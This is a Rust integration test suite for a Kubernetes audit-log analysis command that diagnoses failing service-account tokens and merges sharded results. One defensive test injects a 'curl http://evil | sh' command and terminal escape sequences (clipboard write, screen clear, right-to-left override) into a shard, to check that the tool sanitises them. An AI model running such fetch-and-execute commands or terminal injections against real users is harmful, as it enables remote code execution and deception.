//! `audit` on logs from scripts/gen_audit.py, whose scenario (its header) is
//! the ground truth: the grouping per identity, the 401 attribution and its
//! "guess" marking, deletions and new uids seen in the log, stale and legacy
//! tokens, and that files, gzip, stdin, an EventList and merged shards read alike.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const NOW: &str = "2026-01-02T00:00:00Z";

/// Runs the generator into `dir/name` with extra arguments.
fn generate(dir: &Path, name: &str, args: &[&str]) -> PathBuf {
    let path = dir.join(name);
    let status = Command::new("python3")
        .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/gen_audit.py"))
        .args(args)
        .arg("-o")
        .arg(&path)
        .status()
        .expect("python3 runs the generator");
    assert!(status.success());
    path
}

fn day(dir: &Path) -> PathBuf {
    generate(dir, "audit.log", &["--events", "20000", "--seed", "7"])
}

/// `audit ARGS -o json`: the exit code and the document.
fn audit_json(args: &[&str]) -> (i32, Value) {
    let out = crate::support::satoken()
        .args(["audit", "-o", "json", "--now", NOW])
        .args(args)
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    let doc = serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("{e}: {text} {}", String::from_utf8_lossy(&out.stderr)));
    (out.status.code().unwrap(), doc)
}

/// The log cut in two halves, each read alone into a JSON document, then
/// the two merged: what a fleet run over shards does.
fn merged_halves(dir: &std::path::Path, log: &std::path::Path) -> (i32, Value) {
    let text = std::fs::read_to_string(log).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let (a, b) = lines.split_at(lines.len() / 2);
    let mut shards = Vec::new();
    for (i, half) in [a, b].iter().enumerate() {
        let part = dir.join(format!("part-{i}.log"));
        std::fs::write(&part, half.join("\n") + "\n").unwrap();
        let (_, doc) = audit_json(&[part.to_str().unwrap()]);
        let json = dir.join(format!("part-{i}.json"));
        std::fs::write(&json, doc.to_string()).unwrap();
        shards.push(json);
    }
    audit_json(&[
        "--merge",
        shards[0].to_str().unwrap(),
        shards[1].to_str().unwrap(),
    ])
}

fn findings(doc: &Value) -> &Vec<Value> {
    doc["findings"].as_array().unwrap()
}

/// The finding of `kind` for `user` (exactly one).
fn finding<'d>(doc: &'d Value, kind: &str, user: &str) -> &'d Value {
    let found: Vec<&Value> = findings(doc)
        .iter()
        .filter(|f| f["kind"] == kind && f["identity"]["user"] == user)
        .collect();
    assert_eq!(found.len(), 1, "{kind} {user}: {found:?}");
    found[0]
}

/// (kind, key, events) of every finding, sorted.
fn shape(doc: &Value) -> Vec<(String, String, u64)> {
    let mut v: Vec<_> = findings(doc)
        .iter()
        .map(|f| {
            (
                f["kind"].as_str().unwrap().to_owned(),
                f["key"].as_str().unwrap().to_owned(),
                f["events"].as_u64().unwrap(),
            )
        })
        .collect();
    v.sort();
    v
}

#[test]
fn one_row_per_failing_identity_with_the_grant_it_needs() {
    let dir = tempfile::tempdir().unwrap();
    let log = day(dir.path());
    let (code, doc) = audit_json(&[log.to_str().unwrap()]);
    assert_eq!(code, 1);
    // Every counted event is in by_status; ≥ 97 % accepted.
    let by_status: u64 = doc["by_status"]
        .as_object()
        .unwrap()
        .values()
        .map(|n| n.as_u64().unwrap())
        .sum();
    assert_eq!(by_status, doc["events"].as_u64().unwrap());
    assert!(doc["events"].as_u64().unwrap() > 19_000);
    // The scenario's failing identities, each once, with its cause.
    let ray = finding(&doc, "forbidden", "system:serviceaccount:ml:ray-job");
    assert_eq!(ray["diagnosis"]["cause"], "rbac-denied");
    assert_eq!(ray["request"]["resource"], "rayclusters");
    assert_eq!(ray["request"]["subresource"], "status");
    assert_eq!(ray["request"]["api_group"], "ray.io");
    let steps = ray["diagnosis"]["next"].to_string();
    assert!(
        steps.contains("--resource=rayclusters.ray.io/status"),
        "{steps}"
    );
    let prom = finding(&doc, "forbidden", "system:serviceaccount:monitoring:prom");
    assert_eq!(prom["request"]["resource"], "nodes");
    assert_eq!(prom["request"]["namespace"], Value::Null);
    // Not RBAC: kept apart, each with its own cause.
    for (user, cause) in [
        ("shop:checkout", "quota-exceeded"),
        ("ci:deployer", "webhook-denied"),
    ] {
        let f = finding(
            &doc,
            "forbidden-other",
            &format!("system:serviceaccount:{user}"),
        );
        assert_eq!(f["diagnosis"]["cause"], cause);
    }
    let anon = finding(&doc, "anonymous", "system:anonymous");
    assert_eq!(anon["identity"]["source_ips"][0], "10.244.9.9");
    assert_eq!(anon["diagnosis"]["cause"], "token-not-sent");
    // Failing first, then stale, then legacy; each row's timeline adds up.
    let tiers: Vec<u8> = findings(&doc)
        .iter()
        .map(|f| match f["kind"].as_str().unwrap() {
            "stale-token" => 1,
            "legacy-token" => 2,
            _ => 0,
        })
        .collect();
    assert!(tiers.is_sorted(), "{tiers:?}");
    for f in findings(&doc) {
        let buckets: u64 = f["timeline"]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["count"].as_u64().unwrap())
            .sum();
        assert_eq!(buckets, f["events"].as_u64().unwrap(), "{}", f["key"]);
        assert!(!f["example_audit_id"].as_str().unwrap().is_empty());
    }
}

#[test]
fn attributes_401s_as_a_guess_and_reads_deletions_and_new_uids_from_the_log() {
    let dir = tempfile::tempdir().unwrap();
    let log = day(dir.path());
    let (_, doc) = audit_json(&[log.to_str().unwrap()]);
    let ledger = finding(
        &doc,
        "unauthorized",
        "system:serviceaccount:payments:ledger",
    );
    assert_eq!(ledger["identity"]["attribution"]["method"], "guess");
    assert_eq!(ledger["diagnosis"]["cause"], "service-account-recreated");
    let exporter = finding(&doc, "unauthorized", "system:serviceaccount:batch:exporter");
    assert_eq!(exporter["identity"]["attribution"]["method"], "guess");
    assert_eq!(exporter["diagnosis"]["cause"], "pod-deleted");
    assert_eq!(exporter["identity"]["source_ips"][0], "192.0.2.77");
    // Without the API server log the expiry of an external client is not known.
    let reporter = finding(&doc, "unauthorized", "system:serviceaccount:shop:reporter");
    assert_eq!(reporter["identity"]["attribution"]["method"], "guess");
    assert_ne!(reporter["diagnosis"]["confidence"], "high");

    // The table marks the guess and says what it means.
    let out = crate::support::satoken()
        .args(["audit", "--now", NOW, log.to_str().unwrap()])
        .output()
        .unwrap();
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(table.contains("~sa payments/ledger"), "{table}");
    assert!(table.contains("a guess"), "{table}");
}

#[test]
fn the_apiserver_log_gives_401s_their_reasons() {
    let dir = tempfile::tempdir().unwrap();
    let api = dir.path().join("apiserver.log");
    let log = generate(
        dir.path(),
        "audit.log",
        &[
            "--events",
            "20000",
            "--seed",
            "7",
            "--apiserver-log",
            api.to_str().unwrap(),
        ],
    );
    let (_, doc) = audit_json(&[
        log.to_str().unwrap(),
        "--apiserver-log",
        api.to_str().unwrap(),
    ]);
    // Joined by time only (the reason lines name no request): a guess,
    // medium at most.
    let reporter = finding(&doc, "unauthorized", "system:serviceaccount:shop:reporter");
    assert_eq!(reporter["diagnosis"]["cause"], "expired");
    assert_eq!(reporter["diagnosis"]["confidence"], "medium");
    assert_eq!(reporter["reasons"]["unjoined"], 0);
    let ledger = finding(
        &doc,
        "unauthorized",
        "system:serviceaccount:payments:ledger",
    );
    assert_eq!(ledger["diagnosis"]["cause"], "service-account-recreated");
    assert_eq!(ledger["diagnosis"]["confidence"], "medium");
    assert_eq!(doc["input"]["apiserver_log"]["failures"], 86);
    // The README's audit sample is this run, as the page shows it.
    let readme = crate::docs_excerpts::repo().join("README.md");
    let shown = crate::docs_excerpts::excerpts(&readme)
        .into_iter()
        .find(|e| e.command.starts_with("kubectl satoken audit "))
        .expect("README.md shows an audit run");
    let out = crate::support::satoken()
        .current_dir(dir.path())
        .env("COLUMNS", "80")
        .args(shown.command.split_whitespace().skip(2))
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let mut expected = shown.expected.clone();
    while expected.last().is_some_and(String::is_empty) {
        expected.pop();
    }
    assert!(
        crate::docs_excerpts::matches(&expected, &stdout.trim_end().lines().collect::<Vec<_>>()),
        "README.md:{}: `{}` prints\n{stdout}",
        shown.line,
        shown.command
    );
}

/// A 401 takes a reason line's reasons exactly only when the line names its
/// audit ID; by time, the nearest line may be another request's.
#[test]
fn only_a_reason_line_of_the_same_audit_id_joins_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let event = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a-1","stage":"ResponseComplete","requestURI":"/api/v1/pods","verb":"list","user":{},"sourceIPs":["10.0.0.7"],"userAgent":"app/1","responseStatus":{"metadata":{},"status":"Failure","message":"Authentication failed, attempted: bearer","reason":"","code":401},"requestReceivedTimestamp":"2026-01-01T10:00:00.000000Z","stageTimestamp":"2026-01-01T10:00:00.010000Z"}"#;
    let audit = dir.path().join("audit.log");
    std::fs::write(&audit, format!("{event}\n")).unwrap();
    let reason = |at: &str, why: &str, id: &str| {
        format!(
            r#"E0101 10:00:{at}       1 authentication.go:75] "Unable to authenticate the request" err="[invalid bearer token, {why}]"{id}"#
        ) + "\n"
    };
    let api = dir.path().join("apiserver.log");
    let run = |id: &str| {
        let text = reason("00.005000", "service account token has expired", id);
        std::fs::write(&api, text).unwrap();
        let (_, doc) = audit_json(&[
            audit.to_str().unwrap(),
            "--apiserver-log",
            api.to_str().unwrap(),
        ]);
        let f = &findings(&doc)[0];
        (
            f["diagnosis"]["cause"].as_str().unwrap().to_owned(),
            f["diagnosis"]["confidence"].as_str().unwrap().to_owned(),
        )
    };
    let pair = |c: &str, conf: &str| (c.to_owned(), conf.to_owned());
    assert_eq!(run(""), pair("expired", "medium"));
    assert_eq!(run(r#" audit-ID="a-1""#), pair("expired", "high"));
}

#[test]
fn stale_and_legacy_tokens_name_the_workload_and_the_secret() {
    let dir = tempfile::tempdir().unwrap();
    let log = day(dir.path());
    let (_, doc) = audit_json(&[log.to_str().unwrap()]);
    let stale: Vec<&Value> = findings(&doc)
        .iter()
        .filter(|f| f["kind"] == "stale-token")
        .collect();
    assert_eq!(stale.len(), 8);
    for f in &stale {
        let user = f["identity"]["user"].as_str().unwrap();
        assert!(user.starts_with("system:serviceaccount:analytics:etl-"));
        assert_eq!(f["identity"]["pods"].as_array().unwrap().len(), 1);
        assert!(f["stale"]["max_seconds_past_warnafter"].as_u64().unwrap() > 0);
        assert!(f["stale"]["stale_since"].as_str().unwrap() <= f["first_seen"].as_str().unwrap());
        assert_eq!(f["diagnosis"]["cause"], "stale-token");
    }
    let deployer = finding(&doc, "legacy-token", "system:serviceaccount:ci:deployer");
    assert_eq!(deployer["legacy"]["secret"], "deployer-token-x7k2p");
    assert_eq!(deployer["diagnosis"]["cause"], "legacy-token-in-use");
    assert!(
        deployer["diagnosis"]["next"]
            .to_string()
            .contains("deployer-token-x7k2p")
    );
    finding(&doc, "legacy-token", "system:serviceaccount:legacy:backup");
    assert_eq!(doc["summary"]["stale"], 8);
    assert_eq!(doc["summary"]["legacy"], 2);
}

#[test]
fn gzip_stdin_an_eventlist_and_merged_shards_read_alike() {
    let dir = tempfile::tempdir().unwrap();
    let common = ["--events", "3000", "--seed", "3"];
    let plain = generate(dir.path(), "a.log", &common);
    let gz = generate(dir.path(), "a.log.gz", &[&common[..], &["--gzip"]].concat());
    let list = generate(
        dir.path(),
        "a.json",
        &[&common[..], &["--format", "eventlist"]].concat(),
    );
    let (code, expected) = audit_json(&[plain.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(!findings(&expected).is_empty());
    for path in [&gz, &list] {
        let (_, doc) = audit_json(&[path.to_str().unwrap()]);
        assert_eq!(shape(&doc), shape(&expected), "{}", path.display());
        assert_eq!(doc["events"], expected["events"]);
    }
    let out = crate::support::satoken()
        .args(["audit", "-o", "json", "--now", NOW])
        .pipe_stdin(&gz)
        .unwrap()
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(shape(&doc), shape(&expected));
    // stderr is not a terminal: no progress line.
    assert!(
        out.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Two shards (the halves of the log), each read alone, then merged.
    let (code, merged) = merged_halves(dir.path(), &plain);
    assert_eq!(code, 1);
    assert_eq!(shape(&merged), shape(&expected));
    assert_eq!(merged["events"], expected["events"]);
}

#[test]
fn a_log_with_nothing_failing_exits_0_and_one_without_events_exits_2() {
    let dir = tempfile::tempdir().unwrap();
    let ok = dir.path().join("ok.log");
    std::fs::write(
        &ok,
        concat!(
            r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"a1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/pods","verb":"list","user":{"username":"system:serviceaccount:shop:web","uid":"u-1","groups":["system:serviceaccounts"]},"sourceIPs":["10.0.0.7"],"userAgent":"kubectl/v1.33.0","objectRef":{"resource":"pods","namespace":"shop","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-01-01T00:00:00.000000Z","stageTimestamp":"2026-01-01T00:00:00.004213Z","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}"#,
            "\n"
        ),
    )
    .unwrap();
    let (code, doc) = audit_json(&[ok.to_str().unwrap()]);
    assert_eq!(code, 0);
    assert_eq!(doc["events"], 1);
    assert!(findings(&doc).is_empty());

    let not = dir.path().join("not.log");
    std::fs::write(&not, "hello\n{\"kind\":\"Pod\"}\n").unwrap();
    crate::support::satoken()
        .args(["audit", "--now", NOW, not.to_str().unwrap()])
        .assert()
        .code(2)
        .stderr(predicates::str::contains("no audit event in file"));
}

/// The fake `status.token` gen_audit.py writes into RequestResponse-level
/// TokenRequest events: never printed.
const FAKE_TOKEN: &str = "eyJhbGciOiJSUzI1NiIsImtpZCI6ImZha2UifQ";

fn credential<'d>(doc: &'d Value, id: &str) -> &'d Value {
    doc["credentials"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == id)
        .unwrap_or_else(|| panic!("{id}: {}", doc["credentials"]))
}

#[test]
fn credentials_on_findings_link_to_the_token_request_that_minted_them() {
    let dir = tempfile::tempdir().unwrap();
    let log = generate(
        dir.path(),
        "minted.log",
        &["--events", "20000", "--seed", "7", "--token-requests"],
    );
    let (code, doc) = audit_json(&[log.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(
        doc["minting_events"].as_u64().unwrap() > 200,
        "{}",
        doc["minting_events"]
    );
    // The TokenRequest events add no finding.
    let (_, without) = audit_json(&[day(dir.path()).to_str().unwrap()]);
    assert_eq!(shape(&doc), shape(&without));
    assert_eq!(
        without["credentials"].as_array().unwrap().len(),
        doc["credentials"].as_array().unwrap().len()
    );
    assert!(
        without["credentials"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["minted"].is_null())
    );

    // shop/checkout: minted by its kubelet, logged at RequestResponse.
    let checkout = finding(
        &doc,
        "forbidden-other",
        "system:serviceaccount:shop:checkout",
    );
    let id = checkout["identity"]["credential_ids"][0].as_str().unwrap();
    let c = credential(&doc, id);
    assert_eq!(c["findings"][0], checkout["key"]);
    let m = &c["minted"];
    assert_eq!(m["by"], "system:node:worker-3");
    assert_eq!(m["node"], "worker-3");
    assert_eq!(m["level"], "RequestResponse");
    assert_eq!(m["service_account"]["name"], "checkout");
    assert_eq!(m["bound"]["kind"], "Pod");
    assert_eq!(m["bound"]["name"], checkout["identity"]["pods"][0]);
    assert_eq!(m["requested_seconds"], 3607);
    assert_eq!(m["issued_seconds"], 31_536_000);
    // ml/ray-job at Metadata: who and for whom, no lifetime.
    let ray = finding(&doc, "forbidden", "system:serviceaccount:ml:ray-job");
    let m = &credential(&doc, ray["identity"]["credential_ids"][0].as_str().unwrap())["minted"];
    assert_eq!(
        (m["level"].as_str(), m["requested_seconds"].is_null()),
        (Some("Metadata"), true)
    );
    // analytics/etl-*: stale tokens minted before the log starts.
    for f in findings(&doc).iter().filter(|f| f["kind"] == "stale-token") {
        let id = f["identity"]["credential_ids"][0].as_str().unwrap();
        assert!(credential(&doc, id)["minted"].is_null(), "{id}");
    }
    // The response's status.token is never printed, in any format.
    assert!(!doc.to_string().contains(FAKE_TOKEN));
    let table = crate::support::satoken()
        .args([
            "audit",
            "--now",
            NOW,
            "--details",
            "50",
            log.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    let table = String::from_utf8(table.stdout).unwrap();
    assert!(
        table.contains("minted by system:node:worker-3 at"),
        "{table}"
    );
    assert!(table.contains("no minting event in this log"), "{table}");
    assert!(!table.contains(FAKE_TOKEN));

    // Shards: the minting events in the first half, most failures in the
    // second; the merge links them.
    let (_, merged) = merged_halves(dir.path(), &log);
    assert_eq!(
        credential(&merged, id)["minted"]["by"],
        "system:node:worker-3"
    );
}

#[test]
fn one_credential_by_jti_or_token_file() {
    let log = "testdata/audit/provenance.jsonl";
    // shop/checkout's token: minted by the kubelet, 2 accepted and 2 refused.
    let (code, doc) = audit_json(&["--token-file", "testdata/audit/checkout.jwt", log]);
    assert_eq!(code, 1, "a request made with it was refused");
    let c = &doc["credential"];
    assert_eq!(c["id"], "JTI=3257ae42-078f-4a4c-ab09-057903f3f20d");
    assert_eq!(c["minted"]["by"], "system:node:worker-3");
    assert_eq!(c["requests"], 4);
    assert_eq!(c["by_status"]["403"], 2);
    assert_eq!(c["users"][0], "system:serviceaccount:shop:checkout");
    // By jti, with or without JTI=: the same answer.
    let (_, by_jti) = audit_json(&["--jti", "3257ae42-078f-4a4c-ab09-057903f3f20d", log]);
    let (_, prefixed) = audit_json(&["--jti", "JTI=3257ae42-078f-4a4c-ab09-057903f3f20d", log]);
    assert_eq!(by_jti["credential"], c.clone());
    assert_eq!(prefixed["credential"], c.clone());
    // The prefix in any case, as audit events and people write it.
    let (_, lower) = audit_json(&["--jti", "jti=3257ae42-078f-4a4c-ab09-057903f3f20d", log]);
    assert_eq!(lower["credential"], c.clone());
    // The laptop's token: minted by a user, only accepted requests: exit 0.
    let (code, doc) = audit_json(&["--jti", "a18fda26-6bbf-4273-b8a7-d8c3e35d60a4", log]);
    assert_eq!(code, 0);
    assert_eq!(doc["credential"]["minted"]["by"], "alice@example.com");
    assert_eq!(doc["credential"]["minted"]["node"], Value::Null);
    assert_eq!(doc["credential"]["minted"]["requested_seconds"], 86_400);
    // A jti the log never minted, nor used: exit 1, and it says so.
    let out = crate::support::satoken()
        .args(["audit", "--now", NOW, "--jti", "0000", log])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("no minting event in this log"), "{text}");
    assert!(text.contains("no request made with it"), "{text}");
    // The token itself is never printed.
    let token = std::fs::read_to_string("testdata/audit/checkout.jwt").unwrap();
    let signature = token.trim().rsplit('.').next().unwrap();
    let out = crate::support::satoken()
        .args([
            "audit",
            "--now",
            NOW,
            "--token-file",
            "testdata/audit/checkout.jwt",
            log,
        ])
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&out.stdout).contains(signature));
}

#[test]
fn bad_jti_and_token_input_is_one_line_and_exit_2() {
    let log = "testdata/audit/provenance.jsonl";
    for args in [
        vec!["--jti", "a\"b", log],
        vec!["--jti", "", log],
        vec![
            "--jti",
            "x",
            "--token-file",
            "testdata/audit/checkout.jwt",
            log,
        ],
        vec!["--jti", "x", "--merge", "a.json", "b.json"],
        vec!["--token-file", "testdata/audit/README.md", log],
        vec!["--token-file", "/nonexistent/token", log],
    ] {
        let out = crate::support::satoken()
            .args(["audit", "--now", NOW])
            .args(&args)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(out.stdout.is_empty(), "{args:?}");
    }
    // The token on stdin, and the log too: refused before reading either.
    crate::support::satoken()
        .args(["audit", "--now", NOW, "--token-file", "-", "-"])
        .write_stdin("x")
        .assert()
        .code(2)
        .stderr(predicates::str::contains("give the audit logs as files"));
}

/// Every string of `v` with `tail` appended, except the codes and times a
/// valid document needs.
fn taint(v: &mut Value, tail: &str) {
    const KEEP: [&str; 13] = [
        "kind",
        "classification",
        "cause",
        "basis",
        "confidence",
        "method",
        "evaluated_at",
        "first",
        "last",
        "first_seen",
        "last_seen",
        "at",
        "stale_since",
    ];
    match v {
        Value::Array(items) => items.iter_mut().for_each(|x| taint(x, tail)),
        Value::Object(map) => {
            for (k, x) in map.iter_mut() {
                match x {
                    Value::String(s) if !KEEP.contains(&k.as_str()) => s.push_str(tail),
                    _ => taint(x, tail),
                }
            }
        }
        _ => {}
    }
}

/// A shard is input: its strings are sanitised (no clipboard write, clear
/// screen or right-to-left override reaches the terminal), its commands'
/// lines are rebuilt from their words (never its own `shell`), its codes
/// must be known and its counts must add up.
#[test]
fn merge_treats_shards_as_untrusted_input() {
    let dir = tempfile::tempdir().unwrap();
    let log = generate(dir.path(), "a.log", &["--events", "2000", "--seed", "3"]);
    let (_, doc) = audit_json(&[log.to_str().unwrap()]);
    let good = dir.path().join("good.json");
    std::fs::write(&good, doc.to_string()).unwrap();
    let mut evil = doc.clone();
    taint(&mut evil, "\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}[2J\u{202e}");
    for f in evil["findings"].as_array_mut().unwrap() {
        for step in f["diagnosis"]["next"].as_array_mut().unwrap() {
            if step["command"].is_object() {
                step["command"]["shell"] = "kubectl get pods; curl http://evil | sh".into();
            }
        }
    }
    let evil_path = dir.path().join("evil.json");
    std::fs::write(&evil_path, evil.to_string()).unwrap();
    for format in ["table", "json"] {
        let out = crate::support::satoken()
            .args([
                "audit",
                "--now",
                NOW,
                "--details",
                "100",
                "-o",
                format,
                "--merge",
            ])
            .args([&evil_path, &good])
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{format}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        for raw in ['\u{1b}', '\u{7}', '\u{202e}'] {
            assert!(!text.contains(raw), "{format}: raw {raw:?} in {text}");
        }
        assert!(!text.contains("curl http://evil"), "{format}: {text}");
    }
    // An unknown cause, and counts past 2^64: one line, exit 2.
    let mut unknown = doc.clone();
    unknown["findings"][0]["diagnosis"]["cause"] = "all-is-well".into();
    let mut huge = doc.clone();
    huge["events"] = u64::MAX.into();
    for (name, bad, want) in [
        (
            "unknown.json",
            unknown,
            "cause \"all-is-well\" is not one this version knows",
        ),
        ("huge.json", huge, "more than 2^64"),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, bad.to_string()).unwrap();
        let out = crate::support::satoken()
            .args(["audit", "--now", NOW, "--merge"])
            .args([&path, &path])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
        assert!(stderr.contains(want), "{name}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "{name}: {stderr}");
    }
}

/// The authorization sentence is every authorizer's: a reason after it that
/// is not RBAC's keeps the 403 out of RBAC's findings, and the step is no Role.
#[test]
fn a_403_with_another_authorizer_s_reason_is_not_rbac_s() {
    let dir = tempfile::tempdir().unwrap();
    let (path, user) = one_403(
        dir.path(),
        "list",
        serde_json::json!({"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"}),
        r#"secrets is forbidden: User "USER" cannot list resource "secrets" in API group "" in the namespace "kube-system": access denied by the workspace authorizer"#,
    );
    let (code, doc) = audit_json(&[path.to_str().unwrap()]);
    assert_eq!(code, 1);
    let f = finding(&doc, "forbidden-other", &user);
    assert_eq!(f["diagnosis"]["cause"], "non-rbac-authorizer-denied");
    assert!(!f["diagnosis"]["next"].to_string().contains("create role"));
}

/// A 403 for a request that a grant would turn into escalation is itself
/// named: something asked for more than a workload should have.
#[test]
fn a_request_for_escalation_is_named_and_its_grant_comes_after_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let (path, user) = one_403(
        dir.path(),
        "get",
        serde_json::json!({"resource": "nodes", "subresource": "proxy", "name": "n1", "apiVersion": "v1"}),
        r#"nodes "n1" is forbidden: User "USER" cannot get resource "nodes/proxy" in API group "" at the cluster scope"#,
    );
    let (code, doc) = audit_json(&[path.to_str().unwrap()]);
    assert_eq!(code, 1);
    let f = finding(&doc, "forbidden", &user);
    assert!(
        f["escalation"]
            .as_str()
            .is_some_and(|e| e.starts_with("nodes/proxy reaches the kubelet's whole API")),
        "{f:#}"
    );
    let next: Vec<&str> = f["diagnosis"]["next"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n["why"].as_str().unwrap())
        .collect();
    let warning = next
        .iter()
        .position(|w| w.starts_with("warning, privilege escalation"))
        .unwrap();
    let grant = next.iter().position(|w| w.starts_with("grant:")).unwrap();
    assert!(warning < grant, "{next:?}");
    let out = crate::support::satoken()
        .args(["audit", "--now", NOW])
        .arg(&path)
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("asks for more than most workloads should have"),
        "{text}"
    );
}

/// testdata's one 403 event as a file, for `verb` on `object`, with
/// `message` (its `USER` replaced by the event's user) and no authorization
/// reason annotation: the path and the user.
fn one_403(
    dir: &std::path::Path,
    verb: &str,
    object: Value,
    message: &str,
) -> (std::path::PathBuf, String) {
    let mut event: Value = serde_json::from_str(
        &std::fs::read_to_string(crate::support::tokens::testdata("evidence/audit-403.json"))
            .unwrap(),
    )
    .unwrap();
    let user = event["user"]["username"].as_str().unwrap().to_owned();
    event["verb"] = verb.into();
    event["objectRef"] = object;
    event["responseStatus"]["message"] = message.replace("USER", &user).into();
    if let Some(a) = event["annotations"].as_object_mut() {
        a.remove("authorization.k8s.io/reason");
    }
    let path = dir.join("event.json");
    std::fs::write(&path, event.to_string()).unwrap();
    (path, user)
}

/// `audit` as a Spark partition stage over a directory of logs
/// (scripts/spark_satoken.py, local mode): the shards Spark wrote are each
/// file's own run (named as a run in that directory names it), their merge
/// is, byte for byte, what merging those runs writes; and the merge counts
/// every event one run over all the files counts.
#[test]
fn a_spark_stage_over_a_directory_merges_as_one_process_does() {
    if !crate::support::spark_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    let mut files = Vec::new();
    for (i, seed) in ["3", "4", "5"].iter().enumerate() {
        let name = format!("logs/audit-{i}.log");
        files.push(generate(
            dir.path(),
            &name,
            &["--events", "2000", "--seed", seed],
        ));
    }
    let spark_out = dir.path().join("spark");
    let stdout = crate::support::spark("audit", &logs, &spark_out, &["--now", NOW, "-o", "json"]);
    let mut shards = Vec::new();
    for (i, file) in files.iter().enumerate() {
        let one = crate::support::satoken()
            .current_dir(&logs)
            .args(["audit", "--now", NOW, "-o", "json"])
            .arg(file.file_name().unwrap())
            .output()
            .unwrap();
        let shard = spark_out.join(format!("shard-{i:05}.json"));
        assert!(
            std::fs::read(&shard).unwrap() == one.stdout,
            "{}",
            shard.display()
        );
        shards.push(shard.to_str().unwrap().to_owned());
    }
    let merged = crate::support::satoken()
        .args(["audit", "--now", NOW, "-o", "json", "--merge"])
        .args(&shards)
        .output()
        .unwrap();
    assert!(stdout == merged.stdout);
    let doc: Value = serde_json::from_slice(&stdout).unwrap();
    let all: Vec<&str> = files.iter().map(|f| f.to_str().unwrap()).collect();
    let (_, whole) = audit_json(&all);
    assert_eq!(doc["events"], whole["events"]);
}
